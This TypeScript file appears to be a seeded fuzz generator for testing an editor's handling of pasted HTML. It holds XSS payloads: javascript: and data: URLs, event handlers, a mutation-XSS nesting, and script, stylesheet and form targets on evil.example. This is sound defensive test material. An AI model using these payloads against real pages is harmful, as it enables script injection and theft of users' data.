/** Repeatable numbers from 0 to below 1. */
function numbersFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const addresses = [
  "javascript:alert(1)",
  " jAvAsCrIpT:alert(1)",
  "java\tscript:alert(1)",
  "&#106;avascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "https://bank.example@evil.example/",
  "//evil.example/x",
  "/relative",
  "https://fine.example/path?q=1",
  "mailto:ann@halden.example",
  "blob:https://a.example/1",
  `https://a.example/${"x".repeat(3_000)}`,
];
const words = [
  "Order",
  "site",
  "<b>",
  "&lt;script&gt;",
  "\u0000",
  "\ud800",
  "\u202egpj.exe",
  "🙂",
  "a".repeat(200),
  "   ",
];
const sizes = ["1", "3", "1000000000", "-1", "NaN", "1e9", "99999999999999999999", "abc"];

/** Wraps of content: known tags, unknown ones, and those that run or load something. */
const wraps: ((inner: string, pick: <T>(from: readonly T[]) => T) => string)[] = [
  (inner) => `<p onclick="alert(1)" style="position:fixed;background:url(https://evil.example/x)">${inner}</p>`,
  (inner, pick) =>
    `<a href="${pick(addresses)}" target="_top" onmouseover="alert(1)" ping="https://evil.example">${inner}</a>`,
  (inner) => `<script>alert(1)</script>${inner}<script src="https://evil.example/x.js"></script>`,
  (inner) => `<style>*{display:none}</style>${inner}<link rel="stylesheet" href="https://evil.example/x.css">`,
  (inner) => `<img src="https://evil.example/p.png" onerror="alert(1)">${inner}<img src=x onerror=alert(1)>`,
  (inner) => `<svg onload="alert(1)"><foreignObject>${inner}</foreignObject><script>alert(1)</script></svg>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}</mglyph></table></mtext></math>`,
  (inner) => `<iframe srcdoc="<script>alert(1)</script>"></iframe>${inner}<object data="x"></object><embed src="x">`,
  (inner) => `<form action="https://evil.example"><input name="q" value="x"><button>Send</button>${inner}</form>`,
  (inner, pick) =>
    `<table><tr><td colspan="${pick(sizes)}" rowspan="${pick(sizes)}" colwidth="${pick(sizes)}">${inner}</td><th>x</th></tr></table>`,
  (inner) => `<table>${inner}<tr>${inner}<td>${inner}</td></tr><caption>${inner}</caption></table>`,
  (inner, pick) => `<ol start="${pick(sizes)}" type="${pick(["a", "<script>"])}"><li>${inner}</li>${inner}</ol>`,
  (inner) => `<ul data-type="taskList"><li data-type="taskItem" data-checked="yes">${inner}</li></ul>`,
  (inner) => `<ul><ul><li><ul>${inner}</ul></li></ul></ul>`,
  (inner, pick) =>
    `<span data-mention data-entity="${pick(["member", "account", "", "<img>"])}" data-id="${pick(["0198", "", "../x", "x".repeat(500)])}" data-label="Secret">@Secret name${inner}</span>`,
  (inner, pick) => `<h${pick(["1", "3", "4", "6"])}>${inner}</h1>`,
  (inner) => `<pre><code class="language-&quot;><script>">${inner}</code></pre>`,
  (inner) => `<blockquote cite="javascript:alert(1)">${inner}</blockquote><hr onclick="x">`,
  (inner) => `<b style="font-weight:normal" id="docs-internal-guid">${inner}</b><o:p>${inner}</o:p>`,
  (inner, pick) =>
    `<div data-pm-slice="${pick(["0 0 []", "9 9 []", "1 1 [&quot;table&quot;,{&quot;x&quot;:1}]", "x"])}">${inner}</div>`,
  (inner) => `<template><p>${inner}</p></template><noscript><p>${inner}</p></noscript><!-- ${inner} -->`,
  (inner) => `<p>${inner}<p>${inner}</div></table></b>`,
];

/** Pasted HTML as an attacker or a word processor writes it, the same for a seed. */
export function hostilePastes(count: number, seed: number): string[] {
  const next = numbersFrom(seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(next() * from.length)] as T;
  const content = (depth: number): string => {
    if (depth === 0 || next() < 0.15) return pick(words);
    const parts = Array.from({ length: 1 + Math.floor(next() * 2) }, () => content(depth - 1));
    return pick(wraps)(parts.join(""), pick);
  };
  return Array.from({ length: count }, (_, place) => content(1 + (place % 6)));
}
